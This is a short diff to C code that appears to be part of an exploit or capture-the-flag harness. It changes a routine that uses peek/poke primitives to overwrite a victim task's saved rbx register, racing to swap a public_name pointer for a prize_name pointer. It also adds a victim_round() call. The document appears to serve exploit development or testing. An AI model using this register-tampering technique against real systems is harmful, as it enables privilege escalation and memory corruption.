@@ -20,9 +20,10 @@ static bool fire(void)
 	const uint64_t task = victim_task(own_task());
 	const uint64_t name = registers_of(task) + member("arch_frame.rbx");
 
-	poke(name, peek(name) + (uint64_t)(prize_name - public_name));
-	sleep_milliseconds(400);
-	return reads_prize();
+	for (; !reads_prize(); sleep_milliseconds(1))
+		if (peek(name) == (uint64_t)public_name)
+			poke(name, (uint64_t)prize_name);
+	return true;
 }
 
 static void victim(void)
@@ -30,6 +31,7 @@ static void victim(void)
 	static const long pause_time[2] = { 0, 200000000 };
 	const char *name = public_name;
 
+	victim_round();
 	for (;;) {
 		__asm__ volatile("syscall"
 				 : "+b"(name)
